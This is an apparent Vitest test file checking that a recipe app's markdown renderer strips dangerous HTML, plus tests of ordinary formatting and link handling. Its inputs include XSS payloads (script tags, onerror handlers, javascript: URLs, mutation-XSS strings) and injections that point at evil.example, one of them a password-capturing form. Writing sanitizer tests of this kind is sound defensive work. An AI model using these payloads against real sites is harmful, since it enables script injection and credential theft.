import { expect, test } from 'vitest'
import { readMarkdown } from '#renderer/components/markdown.ts'

function renderMarkdown(text: string) {
  const holder = document.createElement('div')
  holder.append(readMarkdown(text))
  return holder.innerHTML
}

const dangerous =
  /<(?:script|style|iframe|object|embed|form|input|svg|math|meta|link|base|video|audio|button|template)\b|\son\w+\s*=|javascript:|vbscript:|data:text|\sstyle=|\sid=|\sname=|\sclass=/i

test.for([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](&amp;#106;avascript:alert(1))',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '<iframe src="https://video.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<p style="position:fixed;inset:0">covered</p>',
  '<style>body{display:none}</style>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name=password></form>',
  '<object data="https://evil.example/x.swf"></object>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<div id="root" name="body" class="mantine">clobber</div>',
  '&lt;script&gt;alert(1)&lt;/script&gt; <b onclick=alert(1)>b</b>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
])('does no harm: %s', (text) => {
  const html = renderMarkdown(text)
  const holder = document.createElement('div')
  holder.innerHTML = html
  for (const element of holder.querySelectorAll('*')) {
    const shown = element.cloneNode(false) as Element
    expect(shown.outerHTML.replaceAll(/&lt;.*?&gt;/g, '')).not.toMatch(dangerous)
  }
})

test.for([
  ['**bold** and *italic*', '<p><strong>bold</strong> and <em>italic</em></p>'],
  ['H<sub>2</sub>O, 2<sup>nd</sup>', '<p>H<sub>2</sub>O, 2<sup>nd</sup></p>'],
  ['one\ntwo', '<p>one<br>\ntwo</p>'],
  ['~~gone~~', '<p><s>gone</s></p>'],
  ['# Title', '<h1>Title</h1>'],
  ['5 < 6 & 7', '<p>5 &lt; 6 &amp; 7</p>'],
  ['{{ 7 * 7 }} ${7*7} {% x %}', '<p>{{ 7 * 7 }} ${7*7} {% x %}</p>'],
] as const)('%s stays', ([text, html]) => {
  expect(renderMarkdown(text).trim()).toBe(html)
})

test('links to other sites open beside us without telling who we are', () => {
  expect(renderMarkdown('[book](https://cook.example/a)').trim()).toBe(
    '<p><a href="https://cook.example/a" target="_blank" rel="noopener noreferrer">book</a></p>',
  )
  expect(renderMarkdown('[here](/g/home/r/pie)')).toContain('<a href="/g/home/r/pie">here</a>')
})

test('pictures of other sites become links, our own are shown', () => {
  expect(renderMarkdown('![Oven](https://cook.example/o.jpg)')).toContain(
    '<a href="https://cook.example/o.jpg" target="_blank" rel="noopener noreferrer">Oven</a>',
  )
  expect(renderMarkdown('![Oven](//cook.example/o.jpg)')).not.toContain('<img')
  expect(renderMarkdown('![Oven](/api/media/recipes/1/assets/o.webp)')).toContain(
    '<img src="/api/media/recipes/1/assets/o.webp" alt="Oven" loading="lazy">',
  )
})
